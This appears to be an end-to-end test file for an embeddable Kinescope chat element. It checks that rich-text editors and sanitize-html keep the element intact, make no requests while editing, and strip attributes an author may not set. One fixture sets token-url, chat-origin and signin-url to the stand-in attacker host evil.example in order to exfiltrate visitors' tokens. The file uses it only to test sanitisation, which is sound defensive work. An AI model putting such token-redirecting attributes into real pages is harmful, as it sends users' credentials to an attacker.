import type { Browser, BrowserContext, Page } from 'playwright-core'
import sanitizeHtml from 'sanitize-html'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { sanitizeHtmlSettings } from '../../examples/editors/sanitize-html.js'
import { launchBrowser } from '../e2e/browser.js'
import { bundle } from './bundle.js'
import { EDITORS } from './editors.js'
import { EVENT } from './kinescope.js'
import { startChatSite, type ChatSite } from './site.js'

const LINK = `https://kinescope.io/chat/${EVENT}#kinescope-chat`
const TAG = `<kinescope-chat event-id="${EVENT}" language="ru"></kinescope-chat>`
/** Attributes that would send a visitor's tokens elsewhere. */
const GREEDY = TAG.replace(
  '></',
  ' token-url="https://evil.example/token" identity="a.b.c" token="a.b.c" chat-origin="https://evil.example" signin-url="https://evil.example" credentials="omit" debug=""></',
)
const CONTENT = `<p>Before</p><p><a href="${LINK}">Open the chat</a></p><p>After</p>`

let chatSite: ChatSite
let browser: Browser
let context: BrowserContext
/** Every request of every page. */
let requests: string[]

beforeAll(async () => {
  ;[chatSite, browser] = await Promise.all([startChatSite(), launchBrowser()])
  chatSite.site.pages.set('/tiptap.js', {
    // the package has modules only
    html: await bundle('./tiptap-entry.js'),
    headers: { 'content-type': 'text/javascript' },
  })
})
afterAll(async () => {
  await browser.close()
  await chatSite.close()
})
beforeEach(async () => {
  requests = []
  context = await browser.newContext()
  context.on('request', (request) => requests.push(request.url()))
})
afterEach(() => context.close())

async function openEditor(html: string): Promise<Page> {
  chatSite.site.pages.set('/editor', { html })
  const page = await context.newPage()
  await page.goto(`${chatSite.site.url()}/editor`)
  await page.waitForFunction('window.roundTrip')
  return page
}

const roundTrip = (page: Page, html: string) =>
  page.evaluate<string>(`window.roundTrip(${JSON.stringify(html)})`)

/** The requests of an element that loaded a chat in the editor. */
const ours = () => requests.filter((url) => /\/token$/.test(url) || url.startsWith(chatSite.chatOrigin))

/** Publishes a saved text on a page with the script in its head. @returns the number of chats */
async function publish(html: string): Promise<number> {
  chatSite.site.pages.set('/published', {
    html: `<!doctype html><html lang="en"><head><title>Page</title>
      <script type="module" src="/kinescope-chat.js" data-chat-origin="${chatSite.chatOrigin}" data-upgrade="main"></script>
      </head><body><main>${html}</main></body></html>`,
  })
  const page = await context.newPage()
  await page.goto(`${chatSite.site.url()}/published`)
  await page.waitForFunction(
    `[...document.querySelectorAll('kinescope-chat')].some((chat) => chat.state === 'ready')`,
  )
  return page.locator('kinescope-chat').count()
}

/** The attributes and the content of each chat in a saved text. */
async function savedTag(html: string) {
  const page = await context.newPage()
  return page.evaluate((html) => {
    const place = new DOMParser().parseFromString(html, 'text/html')
    const tags = [...place.querySelectorAll('kinescope-chat')]
    return tags.map((tag) => ({
      attributes: Object.fromEntries([...tag.attributes].map(({ name, value }) => [name, value])),
      content: tag.textContent?.trim(),
      children: tag.children.length,
    }))
  }, html)
}

const AS_WRITTEN = [{ attributes: { 'event-id': EVENT, language: 'ru' }, content: '', children: 0 }]

describe('the marked link', () => {
  for (const { name, dropsTag, page } of EDITORS)
    it(`survives ${name} as it comes, and is a chat when published`, async () => {
      const editor = await openEditor(page(false))
      const saved = await roundTrip(editor, CONTENT + TAG)
      expect(saved).toContain(`href="${LINK}"`)
      expect(saved.includes('<kinescope-chat')).toBe(!dropsTag)
      expect(ours()).toEqual([])
      expect(await publish(await roundTrip(editor, CONTENT))).toBe(1)
    })

  it('survives sanitize-html as it comes, and is a chat when published', async () => {
    expect(sanitizeHtml(CONTENT + TAG)).not.toContain('kinescope-chat event-id')
    expect(await publish(sanitizeHtml(CONTENT))).toBe(1)
  })
})

describe('the tag, with our configuration', () => {
  for (const { name, canvas, page } of EDITORS)
    it(`survives ${name} as its author wrote it, asks for nothing there, and is a chat when published`, async () => {
      const withScript = page(true).replace(
        '</head>',
        `<script src="/kinescope-chat.classic.js" data-chat-origin="${chatSite.chatOrigin}"></script></head>`,
      )
      const editor = await openEditor(withScript)
      const saved = await roundTrip(editor, `<p>Before</p>${TAG}<p>After</p>`)
      const states = () =>
        editor.evaluate(() => {
          const roots = [document, ...[...document.querySelectorAll('iframe')].map((f) => f.contentDocument)]
          return roots.flatMap((root) =>
            [...(root?.querySelectorAll('kinescope-chat') ?? [])].map((chat) => chat.state),
          )
        })
      // the element in the editor's canvas has its state before the test looks at its requests
      await expect.poll(states).toEqual(canvas ? ['preview'] : [])
      expect(ours()).toEqual([])
      expect(await savedTag(saved)).toEqual(AS_WRITTEN)
      expect(await publish(saved)).toBe(1)
    })

  for (const { name, page } of EDITORS)
    // GrapesJS keeps every tag: its users may write any HTML
    if (name !== 'GrapesJS')
      it(`loses in ${name} what an author may not set`, async () => {
        const editor = await openEditor(page(true))
        expect(await savedTag(await roundTrip(editor, `<p>Before</p>${GREEDY}<p>After</p>`))).toEqual(
          AS_WRITTEN,
        )
      })

  it('loses in sanitize-html what an author may not set', async () => {
    expect(await savedTag(sanitizeHtml(GREEDY, sanitizeHtmlSettings))).toEqual(AS_WRITTEN)
  })

  it('survives sanitize-html as its author wrote it, and is a chat when published', async () => {
    const saved = sanitizeHtml(`<p>Before</p>${TAG}`, sanitizeHtmlSettings)
    expect(await savedTag(saved)).toEqual(AS_WRITTEN)
    expect(await publish(saved)).toBe(1)
  })
})
